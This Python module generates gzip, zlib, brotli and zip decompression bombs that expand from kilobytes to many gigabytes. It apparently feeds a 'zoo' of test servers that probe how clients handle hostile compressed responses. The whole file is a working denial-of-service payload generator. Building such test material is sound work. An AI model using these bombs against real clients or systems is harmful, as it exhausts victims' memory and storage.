"""Compression bombs built from the formats' specifications, small on the wire.

Nothing here compresses gigabytes: a deflate piece that decodes to 1 MiB is
made once and repeated (each piece comes from a fresh compressor and ends
with a full flush, so it refers only to itself and copies of it concatenate
into one valid stream), and the brotli stream is written bit by bit from
RFC 7932, one 16 MiB meta-block in about a dozen bytes. The zoo's servers
stream these lazily, so serving a 10 GiB bomb costs the zoo almost nothing.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator
from functools import cache

MIB = 1024 * 1024
GIB = 1024 * MIB


@cache
def deflate_piece(block: bytes) -> bytes:
    """Raw deflate of ``block`` that can be repeated: fresh history, byte-aligned end."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)


# The end of a raw deflate stream: one empty final fixed-Huffman block.
DEFLATE_END = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)


def gzip_zeros(total: int = 10 * GIB) -> Iterator[bytes]:
    """A gzip member (RFC 1952) of ``total`` zero bytes, about 1 KiB per MiB."""
    block = bytes(MIB)
    piece = deflate_piece(block)
    yield b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"  # magic, deflate, no flags, mtime 0
    crc = 0
    for _ in range(total // MIB):
        crc = zlib.crc32(block, crc)
        yield piece
    yield DEFLATE_END + struct.pack("<II", crc, total & 0xFFFFFFFF)


def zlib_zeros(total: int = 10 * GIB) -> Iterator[bytes]:
    """HTTP's ``deflate`` coding is the zlib format (RFC 1950) around raw deflate."""
    block = bytes(MIB)
    piece = deflate_piece(block)
    yield b"\x78\xda"
    adler = 1
    for _ in range(total // MIB):
        adler = zlib.adler32(block, adler)
        yield piece
    yield DEFLATE_END + struct.pack(">I", adler)


class _Bits:
    """Brotli packs fields least-significant bit first into bytes."""

    def __init__(self) -> None:
        self.value = 0
        self.count = 0

    def put(self, value: int, width: int) -> None:
        self.value |= (value & ((1 << width) - 1)) << self.count
        self.count += width

    def to_bytes(self) -> bytes:
        return self.value.to_bytes((self.count + 7) // 8, "little")


_META_BLOCK = 1 << 24  # the largest MLEN a meta-block header can state


def brotli_zeros(meta_blocks: int = 640) -> bytes:
    """A brotli stream (RFC 7932) of ``meta_blocks`` × 16 MiB of zero bytes.

    Each meta-block declares one-symbol prefix codes (which cost zero bits per
    symbol) and holds one command: insert four zero literals, then copy
    16 MiB − 4 bytes from distance 4 (the initial "last distance").
    Command code 423 means insert length code 4 (exactly 4) with copy length
    code 23 (2118 + 24 extra bits), and reads a distance symbol: the only
    one, 0, "repeat the last distance".
    """
    bits = _Bits()
    bits.put(0, 1)  # WBITS = 16
    copy = _META_BLOCK - 4
    for _ in range(meta_blocks):
        bits.put(0, 1)  # ISLAST = 0
        bits.put(2, 2)  # MNIBBLES = 6
        bits.put(_META_BLOCK - 1, 24)  # MLEN - 1
        bits.put(0, 1)  # ISUNCOMPRESSED = 0
        bits.put(0, 1)  # NBLTYPESL = 1
        bits.put(0, 1)  # NBLTYPESI = 1
        bits.put(0, 1)  # NBLTYPESD = 1
        bits.put(0, 2)  # NPOSTFIX = 0
        bits.put(0, 4)  # NDIRECT = 0
        bits.put(0, 2)  # context mode of the one literal block type
        bits.put(0, 1)  # NTREESL = 1
        bits.put(0, 1)  # NTREESD = 1
        for symbol, alphabet_bits in ((0, 8), (423, 10), (0, 6)):  # literal, command, distance
            bits.put(1, 2)  # HSKIP = 1: a simple prefix code
            bits.put(0, 2)  # NSYM - 1 = 0
            bits.put(symbol, alphabet_bits)
        bits.put(copy - 2118, 24)  # copy length extra bits; everything else is zero bits
    bits.put(1, 1)  # ISLAST
    bits.put(1, 1)  # ISLASTEMPTY
    return bits.to_bytes()


def zip_member_bomb(head: bytes, unit: bytes, tail: bytes, total: int) -> tuple[bytes, int, int]:
    """Raw deflate of ``head + unit*k + tail`` (about ``total`` bytes) without
    compressing it: returns (compressed, crc32, uncompressed size)."""
    block = unit * max(1, MIB // len(unit))
    repeats = max(1, total // len(block))
    piece = deflate_piece(block)
    crc = zlib.crc32(head)
    for _ in range(repeats):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    closing = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = b"".join((
        deflate_piece(head), piece * repeats, closing.compress(tail) + closing.flush(),
    ))
    return data, crc, len(head) + len(block) * repeats + len(tail)


def gzip_repeat(head: bytes, block: bytes, repeats: int) -> Iterator[bytes]:
    """A gzip member of ``head`` then ``block`` × ``repeats``, made lazily."""
    piece = deflate_piece(block)
    yield b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + deflate_piece(head)
    crc, size = zlib.crc32(head), len(head)
    for _ in range(repeats):
        crc, size = zlib.crc32(block, crc), size + len(block)
        yield piece
    yield DEFLATE_END + struct.pack("<II", crc, size & 0xFFFFFFFF)
